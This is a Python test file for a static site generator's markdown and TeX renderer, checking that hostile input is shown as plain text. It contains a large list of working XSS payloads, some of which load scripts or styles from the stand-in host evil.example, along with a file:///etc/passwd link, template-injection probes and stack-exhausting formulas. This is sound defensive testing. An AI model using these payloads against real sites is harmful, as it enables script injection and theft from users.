"""Hostile texts: nothing runs, nothing loads, everything is shown."""

from __future__ import annotations

import pytest

from sitegen.text import block, inline
from tests.text.reader import lost, read

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>click</math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onload=alert(1)>",
    "</p></article><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img/src='x'/onerror=alert(1)//",
    "<\x00script>alert(1)</script>",
    "<\u2028script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    '[x](https://a.org "onmouseover=alert(1)")',
    '[x](https://a.org"onmouseover="alert(1))',
    "[x](https://a.org'onmouseover='alert(1))",
    "[x](https://a.org/`onmouseover=alert(1)`)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[<img src=x onerror=alert(1)>](https://a.org)",
    "[[x](https://a.org)](https://b.org)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.org)',
    "<javascript:alert(1)>",
    "<https://a.org/onmouseover=alert(1)>",
    'https://a.org/"onmouseover="alert(1)',
    "https://a.org/<script>alert(1)</script>",
    "http://a.org@evil.example/",
    "https://[::1]/x",
    "mailto:x@y.z?body=<script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>\nx\n```',
    "**<b onclick=alert(1)>x</b>**",
    "*<img src=x onerror=alert(1)>*",
    "- <script>\n- </script>",
    "1. <script>\n2. alert(1)</script>",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\style{color:red;background:url(https://evil.example)}{x}$",
    r"$\class{evil}{x}$",
    r"$\cssId{evil}{x}$",
    r"$\data{onclick=alert(1)}{x}$",
    r"$\htmlData{x=y}{z}$",
    r"$\includegraphics{https://evil.example/x.png}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext><script>alert(1)</script>}$",
    r"$\mathrm{<img src=x onerror=alert(1)>}$",
    r"$\operatorname{</math><script>alert(1)</script>}$",
    r"$\unicode{x3C}script\unicode{x3E}$",
    r"$\unicode{x202E}$",
    r"$\color{red;background:url(https://evil.example)}x$",
    r"$\textcolor[html]{FF0000}{x}$",
    r"$\label{x}\ref{x}\eqref{javascript:alert(1)}$",
    r"$\tag{<script>}$",
    r"$\def\x{\x\x}\x$",
    r"$\newcommand{\a}[1]{#1#1}\a{\a{\a{x}}}$",
    r"$\begin{array}{<script>}x\end{array}$",
    r"\[</annotation></semantics></math><script>alert(1)</script>\]",
    r"\(<annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml>\)",
    r"\href{javascript:alert(1)}{x}",
    r"\href{java%73cript:alert(1)}{x}",
    r"\href{https://a.org}{<script>alert(1)</script>}",
    r"\url{javascript:alert(1)}",
    r'\url{https://a.org/"onclick="alert(1)}',
    r"\texttt{<script>}\textbf{</p>}",
    r"\textless script\textgreater alert(1)",
    r"\begin{equation}<script>alert(1)</script>\end{equation}",
    "\x0e0\x0f\x0e99999\x0f$x$",
    "\x02klzzwxh:0001\x03*a*",
    "wzxhzdk:0 *a*",
    "{{ 7*7 }} {% raw %} {{'a'.__class__}} ${7*7} #{7*7} <%= 7*7 %>",
    "\u202egnp.exe \u2066x\u2069",
    "javascript:alert(1)",
]


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize(
    "around", ["{}", "so {} so", "**{}**", "\\textbf{{{}}}", "`{}`", "x\n\n- a\n- {}", "[{}](https://a.org)"]
)
def test_hostile_text_is_shown_as_text(vector: str, around: str) -> None:
    text = around.format(vector)
    for html in (block(text).html, f"<p>{inline(text).html}</p>"):
        read(html)  # asserts that nothing but harmless elements and attributes is there
        assert lost(text, html) == ""


@pytest.mark.parametrize(
    "scheme", ["javascript", "data", "vbscript", "file", "ftp", "JAVASCRIPT", "jav\tascript"]
)
def test_only_addresses_of_the_web_become_links(scheme: str) -> None:
    for text in (
        f"[x]({scheme}:y)",
        f"\\href{{{scheme}:y}}{{x}}",
        f"\\url{{{scheme}:y}}",
        f"<{scheme}:y>",
        f"{scheme}://y",
    ):
        assert 'href="' not in block(text).html
        assert 'href="' not in inline(text).html


def test_no_formula_is_nested_or_long_enough_to_exhaust_the_stack() -> None:
    for deep in (
        "{" * 5_000 + "x" + "}" * 5_000,
        r"\sqrt{" * 900 + "x" + "}" * 900,
        r"\hat" * 900 + " x",
        r"\left(" * 500,
    ):
        assert "<math" not in block(f"${deep}$").html
        assert [problem.code for problem in block(f"${deep}$").problems][:1] in (
            ["tex-unknown"],
            ["tex-unbalanced"],
        )


@pytest.mark.parametrize(
    "bracket", ["(", "[", r"\{", r"\{a", r"\langle ", r"\lfloor ", r"\bigl(", "⟦", "{(}", "(&"]
)
def test_no_formula_has_brackets_enough_to_stall_the_converter(bracket: str) -> None:
    assert "<math" not in block(f"${bracket * 30}x$").html
    assert "<math" in block(r"$((\{[0,1)\}))^2 \in ]0,1[ \cup \left(0,1\right]$").html
